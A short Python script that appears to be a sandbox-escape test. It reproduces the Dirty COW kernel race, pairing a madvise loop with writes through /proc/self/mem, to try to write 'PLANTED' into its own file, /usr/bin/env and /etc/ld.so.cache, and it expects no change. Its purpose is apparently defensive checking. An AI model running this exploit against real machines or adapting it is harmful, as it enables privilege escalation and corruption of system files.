"""Tries to change read-only files by writing to its own mapping of them (as Dirty COW did).

Expected: nothing gained
"""

import ctypes
import mmap
import threading

for path in (__file__, "/usr/bin/env", "/etc/ld.so.cache"):
    try:
        with open(path, "rb") as file:
            before = file.read()
            mapped = mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    except (OSError, ValueError):
        continue
    libc = ctypes.CDLL(None)
    address = ctypes.addressof(ctypes.py_object(mapped))
    place = None
    with open("/proc/self/maps") as maps:
        for line in maps:
            if line.rstrip().endswith(path):
                place = int(line.split("-")[0], 16)
    stop = threading.Event()

    def forget(place=place, stop=stop):
        while not stop.is_set():
            libc.madvise(ctypes.c_void_p(place), 4096, 4)

    thread = threading.Thread(target=forget)
    thread.start()
    for _ in range(300):
        try:
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(place)
                memory.write(b"PLANTED")
        except OSError:
            break
    stop.set()
    thread.join()
    with open(path, "rb") as file:
        if file.read() != before:
            print("ESCAPED:", path)
print("done")
